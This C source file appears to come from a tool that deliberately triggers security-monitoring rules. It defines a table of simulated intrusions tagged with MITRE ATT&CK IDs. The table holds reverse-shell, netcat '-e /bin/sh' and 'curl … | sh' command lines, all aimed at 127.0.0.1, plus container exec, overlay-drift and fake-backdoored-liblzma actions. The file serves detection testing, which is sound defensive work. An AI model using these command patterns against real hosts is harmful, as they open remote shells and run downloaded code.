/*
 * Trigger actions for the rules on how somebody gets in and on what is run then. Owns the table of
 * them. Runs in a child process of `haetae trigger`.
 */
#include "trigger.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <sched.h>
#include <stdio.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>

#define NOBODY 65534

/* A shell with an empty command on a new terminal, as this user. In the child only. */
static void exec_on_terminal(const char *terminal, uid_t uid)
{
	int fd;

	(void)setsid();
	fd = open(terminal, O_RDWR);
	if (fd < 0 || ioctl(fd, TIOCSCTTY, 0) || (uid && setresuid(uid, uid, uid)))
		_exit(errno);
	for (int target = 0; target <= 2; target++)
		(void)dup2(fd, target);
	execl("/bin/sh", "sh", "-c", ":", (char *)NULL);
	_exit(errno);
}

static int shell_on_terminal(struct trigger_step *step, uid_t uid)
{
	_cleanup_(close_fdp) int fd = posix_openpt(O_RDWR | O_NOCTTY | O_CLOEXEC);
	char terminal[64];
	pid_t pid;

	trigger_step_set(step, "make a terminal");
	if (fd < 0 || grantpt(fd) || unlockpt(fd) || ptsname_r(fd, terminal, sizeof(terminal)))
		return -errno;
	/* For the user who is to open it. */
	if (uid && chown(terminal, uid, (gid_t)-1))
		return -errno;
	trigger_step_set(step, "start a shell on a terminal");
	pid = fork();
	if (pid == 0)
		exec_on_terminal(terminal, uid);
	return pid < 0 ? -errno : trigger_wait(pid);
}

static int terminal_shell(struct trigger_step *step)
{
	return shell_on_terminal(step, 0);
}

static int service_shell(struct trigger_step *step)
{
	return shell_on_terminal(step, NOBODY);
}

/* Without a terminal, as an exec of a runtime is. */
static int run_from_outside(struct trigger_step *step)
{
	pid_t pid = fork();

	trigger_step_set(step, "start /bin/sh without a terminal");
	/* Who leads a process group, as actions do, can have no session of its own. */
	if (pid == 0)
		_exit(setsid() < 0 ? errno
				   : -trigger_spawn("/bin/sh",
						    (char *const[]){ "sh", "-c", ":", NULL }));
	return pid < 0 ? -errno : trigger_wait(pid);
}

static int copy_into(const char *path)
{
	_cleanup_(close_fdp) int from = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
	_cleanup_(close_fdp) int to = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0700);
	char buffer[65536];
	ssize_t n = -1;

	if (from < 0 || to < 0)
		return -errno;
	while ((n = read(from, buffer, sizeof(buffer))) > 0)
		if (write(to, buffer, (size_t)n) != n)
			return -EIO;
	return n < 0 ? -errno : 0;
}

/* An overlay as containers have it, of folders in memory, in a mount namespace that goes with us.
 */
static int make_overlay(const char *folder)
{
	static const char *const parts[] = { "lower", "upper", "work", "merged" };
	char options[4 * TRIGGER_PATH_MAX], path[2 * TRIGGER_PATH_MAX];

	if (unshare(CLONE_NEWNS) || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) ||
	    mount("haetae-trigger", folder, "tmpfs", MS_NOSUID | MS_NODEV, "size=64m"))
		return -errno;
	for (unsigned i = 0; i < ARRAY_LEN(parts); i++) {
		snprintf(path, sizeof(path), "%s/%s", folder, parts[i]);
		if (mkdir(path, 0700))
			return -errno;
	}
	snprintf(options, sizeof(options), "lowerdir=%s/lower,upperdir=%s/upper,workdir=%s/work",
		 folder, folder, folder);
	return mount("haetae-trigger", path, "overlay", MS_NOSUID | MS_NODEV, options) ? -errno : 0;
}

static int run_from_upper_layer(struct trigger_step *step)
{
	char folder[TRIGGER_PATH_MAX], path[2 * TRIGGER_PATH_MAX];
	int r = trigger_folder(step, folder);

	if (r < 0)
		return r;
	trigger_step_set(step, "mount an overlay below %s", folder);
	r = make_overlay(folder);
	if (r < 0)
		return r;
	snprintf(path, sizeof(path), "%s/merged/harmless", folder);
	trigger_step_set(step, "copy this program to %s", path);
	r = copy_into(path);
	if (r < 0)
		return r;
	trigger_step_set(step, "execute %s", path);
	return trigger_spawn(path, (char *const[]){ path, "--version", NULL });
}

static int set_up_ring(struct trigger_step *step)
{
	struct io_uring_params parameters = { 0 };
	_cleanup_(close_fdp) int fd = -1;

	trigger_step_set(step, "set up io_uring");
	fd = (int)syscall(SYS_io_uring_setup, 1, &parameters);
	return fd < 0 ? -errno : 0;
}

/* An empty file of that name, opened by a process that calls itself sshd. */
static int open_bad_library(struct trigger_step *step)
{
	char folder[TRIGGER_PATH_MAX], path[TRIGGER_PATH_MAX + 32];
	_cleanup_(close_fdp) int fd = -1;
	int r = trigger_folder(step, folder);

	if (r < 0)
		return r;
	snprintf(path, sizeof(path), "%s/liblzma.so.5.6.1", folder);
	trigger_step_set(step, "open %s", path);
	close_fdp(&(int){ open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0600) });
	fd = open(path, O_RDONLY | O_CLOEXEC);
	return fd < 0 ? -errno : 0;
}

/* clang-format off: a table */
static const struct trigger_action actions[] = {
	{ .name = "reverse-shell",
	  .rule = "Connection made standard input",
	  .mitre = "T1059",
	  .doc = "starts an empty shell on a connection to a listener of its own",
	  .perform = trigger_reverse_shell },
	{ .name = "connection-as-input",
	  .rule = "Connection made standard input",
	  .mitre = "T1059",
	  .doc = "makes a connection to a listener of its own its standard input",
	  .perform = trigger_connection_as_input },
	{ .name = "reverse-shell-text",
	  .rule = "Reverse shell on command line",
	  .mitre = "T1059.004",
	  .doc = "starts this program as a shell with the text of a reverse shell",
	  .tool = { "bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/9 0>&1" } },
	{ .name = "netcat-shell",
	  .rule = "Netcat started with a program",
	  .mitre = "T1059",
	  .doc = "starts this program as netcat with a program to execute",
	  .tool = { "nc", "-e", "/bin/sh", "127.0.0.1", "9" } },
	{ .name = "container-terminal-shell",
	  .rule = "Terminal shell in container",
	  .mitre = "T1609",
	  .doc = "starts an empty shell on a terminal as the runtime would",
	  .perform = terminal_shell,
	  .below = "containerd-shim",
	  .wants_container = true },
	{ .name = "container-exec",
	  .rule = "Command run in container from outside",
	  .mitre = "T1609",
	  .doc = "starts an empty shell without a terminal as the runtime would",
	  .perform = run_from_outside,
	  .below = "containerd-shim",
	  .wants_container = true },
	{ .name = "container-drift",
	  .rule = "Program that is not of the image started",
	  .mitre = "T1059",
	  .doc = "runs a copy of this program from the upper layer of an overlay",
	  .perform = run_from_upper_layer,
	  .wants_container = true },
	{ .name = "container-packages",
	  .rule = "Package manager started in container",
	  .mitre = "T1105",
	  .doc = "starts this program as apt-get",
	  .tool = { "apt-get", "install", "haetae-trigger" },
	  .wants_container = true },
	{ .name = "container-client",
	  .rule = "Container client started in container",
	  .mitre = "T1609",
	  .doc = "starts this program as kubectl",
	  .tool = { "kubectl", "version" },
	  .wants_container = true },
	{ .name = "connect-io-uring",
	  .rule = "Connection made through io_uring",
	  .mitre = "T1106",
	  .doc = "connects to a port of 127.0.0.1 where nobody listens, through io_uring",
	  .perform = trigger_connect_ring },
	{ .name = "container-io-uring",
	  .rule = "io_uring set up in container",
	  .mitre = "T1106",
	  .doc = "sets up io_uring and asks it for nothing",
	  .perform = set_up_ring,
	  .wants_container = true },
	{ .name = "download-to-shell",
	  .rule = "Download piped into shell on command line",
	  .mitre = "T1059.004",
	  .doc = "starts this program as a shell with such a command line",
	  .tool = { "sh", "-c", "curl http://127.0.0.1:9/haetae-trigger | sh" } },
	{ .name = "script-of-tmp",
	  .rule = "Script run from temporary directory",
	  .mitre = "T1059",
	  .doc = "starts this program as python with a script of /tmp that is not there",
	  .tool = { "python3", "/tmp/haetae-trigger/nowhere.py" } },
	{ .name = "download-from-server",
	  .rule = "Download tool started by network service",
	  .mitre = "T1190",
	  .doc = "starts this program as curl under a process that calls itself nginx",
	  .tool = { "curl", "http://127.0.0.1:9/haetae-trigger" },
	  .below = "nginx" },
	{ .name = "whoami-from-server",
	  .rule = "Reconnaissance by network service",
	  .mitre = "T1190",
	  .doc = "starts this program as whoami under a process that calls itself nginx",
	  .tool = { "whoami", "haetae-trigger" },
	  .below = "nginx" },
	{ .name = "python-from-server",
	  .rule = "Interpreter started by network service",
	  .mitre = "T1190",
	  .doc = "starts this program as python under a process that calls itself nginx",
	  .tool = { "python3", "haetae-trigger" },
	  .below = "nginx" },
	{ .name = "shell-from-java",
	  .rule = "Shell spawned by application server",
	  .mitre = "T1190",
	  .doc = "starts this program as a shell under a process that calls itself java",
	  .tool = { "sh", "haetae-trigger" },
	  .below = "java" },
	{ .name = "service-account-shell",
	  .rule = "Shell of service account on terminal",
	  .mitre = "T1078.003",
	  .doc = "starts an empty shell on a terminal as nobody",
	  .perform = service_shell },
	{ .name = "download-from-npm",
	  .rule = "Network tool started by package installation",
	  .mitre = "T1195.001",
	  .doc = "starts this program as curl under a process that calls itself npm",
	  .tool = { "curl", "http://127.0.0.1:9/haetae-trigger" },
	  .below = "npm" },
	{ .name = "bad-liblzma",
	  .rule = "Backdoored liblzma opened by SSH server",
	  .mitre = "T1195.002",
	  .doc = "opens an empty liblzma.so.5.6.1 of its own as a process that calls itself sshd",
	  .perform = open_bad_library,
	  .below = "sshd" },
	{ .name = "write-package-source",
	  .rule = "Package source written",
	  .mitre = "T1195.002",
	  .doc = "creates and removes an empty file that apt leaves out",
	  .place = "/etc/apt/sources.list.d/%.off" },
};
/* clang-format on */
const struct trigger_table trigger_intrusions = TRIGGER_TABLE(actions);
